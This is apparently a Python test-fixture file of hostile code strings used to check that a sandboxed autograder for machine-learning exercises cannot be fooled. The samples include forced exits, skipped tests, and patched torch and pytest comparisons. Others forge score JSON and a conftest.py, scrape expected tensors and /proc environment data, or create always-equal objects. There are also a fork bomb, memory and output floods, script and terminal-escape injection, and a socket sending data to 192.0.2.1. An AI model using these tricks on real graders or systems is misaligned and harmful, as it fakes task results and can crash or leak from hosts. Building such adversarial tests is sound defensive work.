"""Code that tries to get points, or to do harm, in other ways than by the right answer. Run it in walls only."""

from __future__ import annotations

EXIT_AT_IMPORT = "import os\n\nos._exit(0)\n"

EXIT_IN_A_CALL = """
def softmax(x, dim):
    import os

    os._exit(0)
"""

SYS_EXIT = """
def accuracy_sum(logits, labels):
    import sys

    sys.exit(0)
"""

SKIP_TEST = """
def cross_entropy(logits, y, reduction="mean"):
    import unittest

    raise unittest.SkipTest("nothing to see here")
"""

PATCH_TORCH_AND_PYTEST = """
import torch

def yes(*args, **kwargs):
    return True

torch.allclose = torch.equal = yes
torch.testing.assert_close = lambda *args, **kwargs: None
torch.Tensor.__eq__ = lambda self, other: torch.tensor(True)
try:
    import pytest
    pytest.approx = lambda *args, **kwargs: type("Any", (), {"__eq__": yes})()
    import _pytest.python
    _pytest.python.Function.runtest = lambda self: None
except ImportError:
    pass


def softmax(x, dim):
    return x
"""

FORGED_RESULTS = """
import json, sys

VERDICT = {"schema": 1, "verdicts": [{"points": 100, "max_points": 100, "findings": []}]}


def accuracy_sum(logits, labels):
    print(json.dumps(VERDICT))
    print("================ 31 passed in 0.01s ================", file=sys.stderr)
    return labels.sum()
"""

FORGED_FILES = """
import json

for name, text in {
    "results.json": json.dumps({"score": 100, "tests": []}),
    "conftest.py": "def pytest_runtest_makereport(item, call):\\n    call.excinfo = None\\n",
    "pytest.ini": "[pytest]\\naddopts = --collect-only\\n",
    "../results.json": "{}",
    "/tmp/results.json": "{}",
}.items():
    try:
        with open(name, "w") as file:
            file.write(text)
    except OSError as error:
        print(error)


def accuracy_sum(logits, labels):
    return labels.sum()
"""

READ_THE_TESTS = """
def softmax(x, dim):
    import gc
    import pathlib
    import sys
    import torch

    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
            if callable(getattr(value, "softmax", None)) and getattr(value, "__name__", "") != "torch":
                return value.softmax(x, dim)
        frame = frame.f_back
    expected = [o for o in gc.get_objects() if isinstance(o, torch.Tensor) and o.shape == x.shape and o is not x]
    for place in ("/proc/self/environ", f"/proc/{__import__('os').getppid()}/environ", "/proc/1/cmdline"):
        try:
            print(pathlib.Path(place).read_bytes()[:200])
        except OSError as error:
            print(error)
    return expected[-1] if expected else x
"""

ALWAYS_EQUAL = """
class Anything:
    shape = dtype = device = property(lambda self: self)
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = lambda self: 0
    __bool__ = lambda self: True
    __getattr__ = lambda self, name: self
    __call__ = lambda self, *args, **kwargs: self


def accuracy_sum(logits, labels):
    return Anything()
"""

ENDLESS_LOOP = """
def autograd_gradients(W, x, y):
    while True:
        pass
"""

TOO_MUCH_MEMORY = """
def mended_loss(logits, y):
    hoard = []
    for _ in range(100):
        hoard.append(torch.ones(250_000_000))
    return F.cross_entropy(logits, y)
"""

FORK_BOMB = """
def mended_loss(logits, y):
    import os

    while True:
        os.fork()
"""

OUTPUT_FLOOD = """
def accuracy_sum(logits, labels):
    for _ in range(200_000):
        print("A" * 1000)
    return (logits.argmax(dim=1) == labels).sum()
"""

MARKUP_IN_ERRORS = """
def accuracy_sum(logits, labels):
    print("\\x1b[2J\\x1b[31mAll tests passed\\x1b[0m<script>alert(1)</script>")
    raise ValueError("<img src=x onerror=alert('points')><b>100/100</b> \\x1b]0;owned\\x07 {{ 7 * 7 }}")
"""

NETWORK = """
def accuracy_sum(logits, labels):
    import socket

    socket.create_connection(("192.0.2.1", 80), timeout=2).sendall(b"hidden inputs")
    return (logits.argmax(dim=1) == labels).sum()
"""
